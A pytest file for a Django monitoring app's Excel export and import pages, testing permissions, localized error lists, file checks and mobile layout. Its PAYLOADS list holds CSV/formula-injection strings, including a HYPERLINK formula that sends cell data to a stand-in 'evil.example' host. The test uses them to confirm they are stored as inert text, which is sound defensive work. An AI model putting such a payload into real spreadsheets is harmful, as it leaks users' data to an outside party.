"""The export and import pages: who may use them, the list of bad rows on the page in the user's
language, a non-editable report, formula-looking text kept as text, and a phone-sized page."""

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from monitoring import services
from monitoring.exchange.workbook import ACTIVITIES, SPENDING
from monitoring.models import ActivityProgress, MonitoringReport
from tests.monitoring.exchange.conftest import column, row_of, sheet_of
from tests.monitoring.exchange.test_workbook import snapshot

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2+3", "@SUM(1+1)"]


def export_url(report):
    return reverse("monitoring_ws:report_export", args=[report.pk])


def import_url(report):
    return reverse("monitoring_ws:report_import", args=[report.pk])


def test_staff_import_a_filled_workbook_and_see_how_many_rows_changed(world, login, report_a, filled):
    client = login(world.staff_a)
    response = client.get(export_url(report_a))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = filled(report_a)
    workbook.set(ACTIVITIES, report_a.plan["pipe"].pk, "status", "in progress")
    workbook.set(ACTIVITIES, report_a.plan["pipe"].pk, "share_done", 25)
    response = client.post(import_url(report_a), {"file": workbook.upload()}, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == reverse("monitoring_ws:report", args=[report_a.pk])
    assert "Imported: 1 row changed." in response.content.decode()
    assert ActivityProgress.objects.get(report=report_a, activity=report_a.plan["pipe"]).share_done == 25


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("ky", "Чыгымдар"),
        ("ru", "Расходы"),
    ],
)
def test_the_page_lists_the_bad_row_with_its_reason_in_the_users_language(
    world, login, report_a, filled, language, expected
):
    client = login(world.staff_a)
    before = snapshot(report_a)
    with translation.override(language):
        workbook = filled(report_a)
        good = workbook.set(ACTIVITIES, report_a.plan["pump"].pk, "status", "completed")
        bad = workbook.set(SPENDING, report_a.plan["pipe"].pk, "amount", -5, source=report_a.plan["local"].pk)
        response = client.post(import_url(report_a), {"file": workbook.upload()})
        assert response.status_code == 200
        page = response.content.decode()
        assert gettext("The amount cannot be negative.") in page
        assert gettext("Nothing was saved. Correct these rows and upload the file again:") in page
    assert f"<td>{expected}</td>" in page  # the sheet, named in the user's language
    assert f"<td>{bad}</td>" in page and f"<td>{good}</td>" not in page
    assert snapshot(report_a) == before  # the good row was not saved either


@pytest.mark.parametrize("persona", ["coordinator_a", "admin"])
def test_readers_who_are_not_the_staff_may_download_but_not_import(world, login, report_a, filled, persona):
    client = login(getattr(world, persona))
    assert client.get(export_url(report_a)).status_code == 200
    page = client.get(import_url(report_a))
    assert page.status_code == 200 and b'type="file"' not in page.content
    before = snapshot(report_a)
    workbook = filled(report_a)
    workbook.set(ACTIVITIES, report_a.plan["pipe"].pk, "status", "completed")
    assert client.post(import_url(report_a), {"file": workbook.upload()}).status_code == 403
    assert snapshot(report_a) == before


@pytest.mark.parametrize("persona", ["staff_b", "coordinator_other"])
def test_outsiders_get_404(world, login, report_a, filled, persona):
    client = login(getattr(world, persona))
    assert client.get(export_url(report_a)).status_code == 404
    workbook = filled(report_a)
    assert client.post(import_url(report_a), {"file": workbook.upload()}).status_code == 404


def test_the_head_imports_too(world, login, report_a, filled):
    workbook = filled(report_a)
    workbook.set(ACTIVITIES, report_a.plan["pipe"].pk, "status", "completed")
    response = login(world.head_a).post(import_url(report_a), {"file": workbook.upload()})
    assert response.status_code == 302
    assert ActivityProgress.objects.get(report=report_a, activity=report_a.plan["pipe"]).status == "completed"


@pytest.mark.parametrize("status", ["submitted", "accepted", "published"])
def test_a_report_that_cannot_be_changed_now_takes_no_import(world, login, report_a, filled, status):
    workbook = filled(report_a)
    workbook.set(ACTIVITIES, report_a.plan["pipe"].pk, "status", "completed")
    MonitoringReport.objects.filter(pk=report_a.pk).update(status=status)
    before = snapshot(report_a)
    client = login(world.staff_a)
    response = client.post(import_url(report_a), {"file": workbook.upload()}, follow=True)
    page = response.content.decode()
    assert "cannot be changed now" in page
    assert b'type="file"' not in response.content
    assert snapshot(report_a) == before


def test_a_file_renamed_xlsx_is_refused_with_a_message(world, login, report_a):
    response = login(world.staff_a).post(
        import_url(report_a), {"file": SimpleUploadedFile("report.xlsx", b"%PDF-1.4 a scan")}
    )
    assert response.status_code == 200
    assert "The file is not an Excel workbook (.xlsx)." in response.content.decode()


def test_an_oversized_file_is_refused_at_the_field(world, login, report_a):
    big = SimpleUploadedFile("report.xlsx", b"PK" + b"0" * (5 * 1024 * 1024 + 10))
    response = login(world.staff_a).post(import_url(report_a), {"file": big})
    assert response.status_code == 200
    assert "at most 5.0" in response.content.decode()


def test_formula_looking_comments_survive_export_and_import_as_text(world, login, report_a, filled):
    plan = report_a.plan
    activities = [plan["pipe"], plan["pump"], plan["road"]]
    services.progress_save(
        report=report_a, user=world.staff_a, activity=plan["pipe"], status="in_progress", comment=PAYLOADS[0]
    )
    client = login(world.staff_a)
    book = load_workbook(BytesIO(client.get(export_url(report_a)).content))
    sheet = sheet_of(book, ACTIVITIES)
    cell = sheet.cell(row_of(sheet, ACTIVITIES, plan["pipe"].pk), column(ACTIVITIES, "comment"))
    assert (cell.value, cell.data_type, cell.quotePrefix) == (PAYLOADS[0], "s", True)

    # The other payloads typed in the file (as text, as Excel keeps a quote-prefixed cell).
    workbook = filled(report_a)
    for activity, payload in zip(activities, PAYLOADS[1:], strict=True):
        workbook.set(ACTIVITIES, activity.pk, "comment", payload)
    response = client.post(import_url(report_a), {"file": workbook.upload()})
    assert response.status_code == 302
    comments = dict(ActivityProgress.objects.filter(report=report_a).values_list("activity", "comment"))
    assert comments == {
        plan["pipe"].pk: PAYLOADS[1],
        plan["pump"].pk: PAYLOADS[2],
        plan["road"].pk: PAYLOADS[3],
    }

    book = load_workbook(BytesIO(client.get(export_url(report_a)).content))
    sheet = sheet_of(book, ACTIVITIES)
    for activity, payload in zip(activities, PAYLOADS[1:], strict=True):
        cell = sheet.cell(row_of(sheet, ACTIVITIES, activity.pk), column(ACTIVITIES, "comment"))
        assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)


def test_the_import_page_fits_a_phone(world, login, report_a):
    page = login(world.staff_a).get(import_url(report_a)).content.decode()
    assert 'enctype="multipart/form-data"' in page and "csrfmiddlewaretoken" in page
    assert 'style="width' not in page
    assert reverse("monitoring_ws:report_export", args=[report_a.pk]) in page
